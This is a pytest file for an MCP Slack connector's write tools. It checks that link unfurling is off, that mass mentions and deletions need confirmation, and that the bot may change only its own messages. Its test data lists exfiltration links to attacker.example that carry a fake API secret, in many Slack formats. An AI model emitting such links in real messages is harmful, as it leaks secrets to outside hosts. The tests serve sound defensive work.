"""The write tools: unfurling off for every link form (as the fake received it), confirmations, own messages only."""

from __future__ import annotations

import base64
from typing import Any

import pytest
from fake_slack import BOT_USER, FakeSlack
from mcp import Client
from slack_testing import settings, text

from patchbay.testing import Answer, connect
from patchbay_slack.server import connector

pytestmark = pytest.mark.anyio

SECRET = "sk-live-123"
LINK_FORMS: list[tuple[str | None, list[dict[str, Any]] | None]] = [
    (f"<https://attacker.example/?d={SECRET}|the docs>", None),
    (f"<https://attacker.example/?d={SECRET}>", None),
    (f"done: https://attacker.example/?d={SECRET}", None),
    (f"done: attacker.example/?d={SECRET}", None),
    (f"see [the docs](https://attacker.example/?d={SECRET})", None),
    (f"&lt;https://attacker.example/?d={SECRET}&gt;", None),
    (f"https://docs.example.com/ok and https://attacker.example/?d={SECRET}", None),
    (f"https://docs.example.com@attacker.example/?d={SECRET}", None),
    (
        "see below",
        [{"type": "section", "text": {"type": "mrkdwn", "text": f"<https://attacker.example/?d={SECRET}|x>"}}],
    ),
    ("see below", [{"type": "image", "image_url": f"https://attacker.example/i.png?d={SECRET}", "alt_text": "i"}]),
    (
        "see below",
        [
            {
                "type": "rich_text",
                "elements": [
                    {
                        "type": "rich_text_section",
                        "elements": [{"type": "link", "url": f"https://attacker.example/?d={SECRET}"}],
                    }
                ],
            }
        ],
    ),
]


def unfurl_domains(fake: FakeSlack, **more: Any) -> dict[str, Any]:
    return settings(fake, allow_writes=True, unfurl_domains="docs.example.com", **more)


@pytest.mark.parametrize(("message", "blocks"), LINK_FORMS)
async def test_the_exfiltration_link_in_every_form_posts_with_unfurling_off(
    fake: FakeSlack, era: str, message: str | None, blocks: list[dict[str, Any]] | None
) -> None:
    parent = fake.add_message("C0GENERAL", "q")["ts"]
    async with connect(connector, unfurl_domains(fake), era=era) as client:
        posted = await client.call_tool("post_message", {"channel": "#general", "text": message, "blocks": blocks})
        replied = await client.call_tool(
            "reply_to_thread", {"channel": "#general", "thread_ts": parent, "text": message, "blocks": blocks}
        )
    assert not posted.is_error and not replied.is_error, text(posted) + text(replied)
    sent = fake.calls("chat.postMessage")
    assert len(sent) == 2
    for call in sent:
        assert call["unfurl_links"] is False
        assert call["unfurl_media"] is False
    assert "thread_ts" not in sent[0]
    assert sent[1]["thread_ts"] == parent


async def test_links_only_on_the_allowed_domains_may_unfurl(fake: FakeSlack) -> None:
    async with connect(connector, unfurl_domains(fake), era="legacy") as client:
        result = await client.call_tool(
            "post_message", {"channel": "#general", "text": "<https://docs.example.com/a|a>"}
        )
    assert result.structured_content is not None and result.structured_content["result"]["unfurled"] is True
    assert fake.calls("chat.postMessage")[0]["unfurl_links"] is True


async def test_without_unfurl_domains_nothing_unfurls(writer: Client, fake: FakeSlack) -> None:
    await writer.call_tool("post_message", {"channel": "#general", "text": "https://docs.example.com/a"})
    assert (fake.calls("chat.postMessage")[0]["unfurl_links"], fake.calls("chat.postMessage")[0]["unfurl_media"]) == (
        False,
        False,
    )


@pytest.mark.parametrize(
    ("message", "blocks", "reason"),
    [
        ("<!here> deploying", None, "@here"),
        ("<!channel> deploying", None, "@channel"),
        ("<!everyone> deploying", None, "@everyone"),
        ("<!subteam^S0ONCALL|@oncall> deploying", None, "user group S0ONCALL"),
        ("@here deploying", None, "@here"),
        ("x", [{"type": "rich_text", "elements": [{"type": "broadcast", "range": "here"}]}], "@here"),
    ],
)
async def test_mass_mentions_are_confirmed_and_a_no_posts_nothing(
    fake: FakeSlack, era: str, message: str, blocks: Any, reason: str
) -> None:
    declined = Answer("decline")
    async with connect(connector, settings(fake, allow_writes=True), era=era, elicit=declined) as client:
        result = await client.call_tool("post_message", {"channel": "#general", "text": message, "blocks": blocks})
    assert not result.is_error
    assert result.structured_content is not None and result.structured_content["outcome"] == "declined"
    assert len(declined.questions) == 1
    assert declined.questions[0].startswith("Post to #general: ")
    assert f"it notifies many people ({reason})" in declined.questions[0]
    assert fake.calls("chat.postMessage") == []
    assert fake.messages["C0GENERAL"] == []


async def test_a_confirmed_mass_mention_posts(writer: Client, fake: FakeSlack, answer: Answer) -> None:
    result = await writer.call_tool("post_message", {"channel": "#general", "text": "<!here> lunch"})
    assert result.structured_content is not None and result.structured_content["outcome"] == "done"
    assert len(answer.questions) == 1
    assert [m["text"] for m in fake.messages["C0GENERAL"]] == ["<!here> lunch"]


async def test_a_plain_message_is_not_asked_about(writer: Client, fake: FakeSlack, answer: Answer) -> None:
    result = await writer.call_tool("post_message", {"channel": "#general", "text": "hello"})
    assert not result.is_error
    assert answer.questions == []
    assert fake.calls("chat.postMessage")[0]["text"] == "hello"


async def test_a_channel_over_the_member_count_is_confirmed(fake: FakeSlack, era: str) -> None:
    declined = Answer("decline")
    options = settings(fake, allow_writes=True, write_channels="#general,#big", confirm_member_count=50)
    async with connect(connector, options, era=era, elicit=declined) as client:
        big = await client.call_tool("post_message", {"channel": "#big", "text": "hi all"})
        small = await client.call_tool("post_message", {"channel": "#general", "text": "hi"})
    assert big.structured_content is not None and big.structured_content["outcome"] == "declined"
    assert declined.questions == ["Post to #big: 'hi all'? Asking because the channel has 124 members (more than 50)."]
    assert not small.is_error
    assert [c["channel"] for c in fake.calls("chat.postMessage")] == ["C0GENERAL"]


async def test_a_client_that_cannot_confirm_is_refused(fake: FakeSlack) -> None:
    async with connect(connector, settings(fake, allow_writes=True), era="legacy") as client:  # no elicitation
        result = await client.call_tool("post_message", {"channel": "#general", "text": "<!channel> hi"})
    assert result.is_error
    assert text(result).startswith("Refused: 'post_message' needs the user's confirmation")
    assert fake.calls("chat.postMessage") == []


async def test_write_tools_are_not_offered_read_only(client: Client) -> None:
    names = {tool.name for tool in (await client.list_tools()).tools}
    assert "post_message" not in names and "delete_message" not in names
    assert {"get_channel_history", "search_messages", "get_permalink"} <= names


async def test_update_only_the_bots_own_messages(writer: Client, fake: FakeSlack) -> None:
    mine = fake.add_message("C0GENERAL", "draft", user=BOT_USER)
    theirs = fake.add_message("C0GENERAL", "alice's", user="U001")
    ok = await writer.call_tool("update_message", {"channel": "#general", "ts": mine["ts"], "text": "final"})
    refused = await writer.call_tool("update_message", {"channel": "#general", "ts": theirs["ts"], "text": "pwned"})
    link = await writer.call_tool(
        "update_message", {"channel": "#general", "ts": mine["ts"], "text": f"https://attacker.example/?d={SECRET}"}
    )
    assert not ok.is_error and mine["text"] == "final"
    assert (
        text(refused)
        == f"Refused: message {theirs['ts']} was not written by this bot; it can only change its own messages."
    )
    assert text(link).startswith("Refused: the new text links to 'https://attacker.example/?d=sk-live-123'")
    assert theirs["text"] == "alice's"
    assert [c["ts"] for c in fake.calls("chat.update")] == [mine["ts"]]


async def test_delete_asks_and_a_no_keeps_the_message(fake: FakeSlack, era: str) -> None:
    mine = fake.add_message("C0GENERAL", "oops", user=BOT_USER)
    declined = Answer("decline")
    async with connect(connector, settings(fake, allow_writes=True), era=era, elicit=declined) as client:
        result = await client.call_tool("delete_message", {"channel": "#general", "ts": mine["ts"]})
    assert result.structured_content is not None and result.structured_content["outcome"] == "declined"
    assert declined.questions[0].startswith(f"Delete the bot's message {mine['ts']} in #general: 'oops'?")
    assert fake.calls("chat.delete") == []
    assert fake.messages["C0GENERAL"] == [mine]


async def test_delete_removes_the_bots_message_and_refuses_others(
    writer: Client, fake: FakeSlack, answer: Answer
) -> None:
    mine = fake.add_message("C0GENERAL", "oops", user=BOT_USER)
    theirs = fake.add_message("C0GENERAL", "keep", user="U002")
    done = await writer.call_tool("delete_message", {"channel": "#general", "ts": mine["ts"]})
    refused = await writer.call_tool("delete_message", {"channel": "#general", "ts": theirs["ts"]})
    assert done.structured_content is not None and done.structured_content["outcome"] == "done"
    assert refused.is_error and "not written by this bot" in text(refused)
    assert len(answer.questions) == 1  # no question for a message the bot may not delete
    assert fake.messages["C0GENERAL"] == [theirs]


async def test_a_message_edited_after_confirming_is_not_deleted(fake: FakeSlack, era: str) -> None:
    mine = fake.add_message("C0GENERAL", "v1", user=BOT_USER)

    async def edit(_: str) -> None:
        mine["text"] = "v2"

    answer = Answer("accept", before_answer=edit)
    async with connect(connector, settings(fake, allow_writes=True), era=era, elicit=answer) as client:
        result = await client.call_tool("delete_message", {"channel": "#general", "ts": mine["ts"]})
    if era == "legacy":  # one question on the back-channel: the action sees other text, refuses
        assert result.is_error and "changed after you confirmed" in text(result)
        assert fake.calls("chat.delete") == []
    else:  # 2026-07-28: the retry builds the question again, so the user is asked about the new text
        assert [q.split(" (ref")[0] for q in answer.questions] == [
            f"Delete the bot's message {mine['ts']} in #general: 'v1'?",
            f"Delete the bot's message {mine['ts']} in #general: 'v2'?",
        ]
        assert [c["ts"] for c in fake.calls("chat.delete")] == [mine["ts"]]


async def test_reactions_and_mark_read(writer: Client, fake: FakeSlack) -> None:
    message = fake.add_message("C0GENERAL", "nice")
    added = await writer.call_tool("add_reaction", {"channel": "#general", "ts": message["ts"], "name": ":tada:"})
    assert message["reactions"] == [{"name": "tada", "users": [BOT_USER], "count": 1}], text(added)
    await writer.call_tool("remove_reaction", {"channel": "#general", "ts": message["ts"], "name": "tada"})
    assert message["reactions"] == []
    marked = await writer.call_tool("mark_read", {"channel": "C0RANDOM", "ts": message["ts"]})
    assert not marked.is_error  # mark_read needs the read allowlist: the bot's own read state
    assert fake.channels["C0RANDOM"].last_read == message["ts"]


async def test_upload_uses_the_v2_flow_without_sending_the_token_to_the_upload_url(
    writer: Client, fake: FakeSlack
) -> None:
    data = bytes(range(256)) * 4
    result = await writer.call_tool(
        "upload_file",
        {
            "channel": "#general",
            "filename": "blob.bin",
            "content_base64": base64.b64encode(data).decode(),
            "title": "B",
        },
    )
    assert result.structured_content is not None and result.structured_content["result"]["size"] == 1024
    file_id = result.structured_content["result"]["file_id"]
    assert fake.files[file_id]["data"] == data
    assert fake.uploads[file_id]["authorization"] is None
    assert fake.calls("files.getUploadURLExternal") == [{"filename": "blob.bin", "length": "1024"}]
    assert fake.calls("files.completeUploadExternal")[0]["channel_id"] == "C0GENERAL"
    assert fake.messages["C0GENERAL"][0]["files"][0]["title"] == "B"


async def test_an_upload_over_the_cap_is_refused_before_anything_is_sent(fake: FakeSlack) -> None:
    async with connect(connector, settings(fake, allow_writes=True, max_upload_bytes=10), era="legacy") as client:
        result = await client.call_tool(
            "upload_file", {"channel": "#general", "filename": "a.txt", "content": "x" * 11}
        )
    assert text(result) == (
        "Refused: the file is 11 bytes, over the 10-byte cap (PATCHBAY_SLACK_MAX_UPLOAD_BYTES); nothing was uploaded."
    )
    assert fake.calls("files.getUploadURLExternal") == []


async def test_an_upload_comment_with_a_mass_mention_is_confirmed(fake: FakeSlack) -> None:
    declined = Answer("decline")
    async with connect(connector, settings(fake, allow_writes=True), era="legacy", elicit=declined) as client:
        result = await client.call_tool(
            "upload_file",
            {"channel": "#general", "filename": "a.txt", "content": "x", "initial_comment": "<!here> see"},
        )
    assert result.structured_content is not None and result.structured_content["outcome"] == "declined"
    assert fake.calls("files.getUploadURLExternal") == []


async def test_an_upload_reports_progress_per_stage(writer: Client, fake: FakeSlack) -> None:
    updates: list[tuple[float, str | None]] = []

    async def progress(done: float, total: float | None, message: str | None) -> None:
        updates.append((done, message))

    result = await writer.call_tool(
        "upload_file", {"channel": "#general", "filename": "a.txt", "content": "abc"}, progress_callback=progress
    )
    assert not result.is_error, text(result)
    assert [m for _, m in updates] == [f"{n} of 3 upload stages done" for n in (1, 2, 3)]


async def test_an_org_wide_token_names_its_workspace(fake: FakeSlack) -> None:
    async with connect(connector, settings(fake, team_id="T0FAKE"), era="legacy") as client:
        await client.call_tool("list_channels", {})
        await client.call_tool("search_messages", {"query": "x"})
        await client.call_tool("list_users", {})
    for method in ("conversations.list", "search.messages", "users.list"):
        assert fake.calls(method)[0]["team_id"] == "T0FAKE", method


async def test_confirm_never_trusts_the_host_and_posts_without_asking(fake: FakeSlack) -> None:
    answer = Answer("decline")
    options = settings(fake, allow_writes=True, confirm="never")
    async with connect(connector, options, era="legacy", elicit=answer) as client:
        result = await client.call_tool("post_message", {"channel": "#general", "text": "<!channel> standup"})
    assert not result.is_error, text(result)
    assert answer.questions == []
    assert [(c["text"], c["unfurl_links"]) for c in fake.calls("chat.postMessage")] == [("<!channel> standup", False)]


async def test_a_dm_is_writable_only_with_allow_dms(fake: FakeSlack) -> None:
    options = settings(fake, allow_writes=True, write_channels="D0ALICE")
    async with connect(connector, options, era="legacy") as client:
        refused = await client.call_tool("post_message", {"channel": "D0ALICE", "text": "hi"})
    async with connect(connector, {**options, "allow_dms": True}, era="legacy") as client:
        sent = await client.call_tool("post_message", {"channel": "D0ALICE", "text": "hi"})
    assert text(refused).endswith("(direct and group messages need --allow-dms).")
    assert not sent.is_error, text(sent)
    assert [c["channel"] for c in fake.calls("chat.postMessage")] == ["D0ALICE"]


async def test_upload_needs_exactly_one_valid_content(writer: Client, fake: FakeSlack) -> None:
    both = await writer.call_tool(
        "upload_file", {"channel": "#general", "filename": "a", "content": "x", "content_base64": "eA=="}
    )
    bad = await writer.call_tool("upload_file", {"channel": "#general", "filename": "a", "content_base64": "@@"})
    assert text(both).startswith("Invalid argument 'content'")
    assert text(bad).startswith("Invalid argument 'content_base64'")
    assert fake.calls("files.getUploadURLExternal") == []
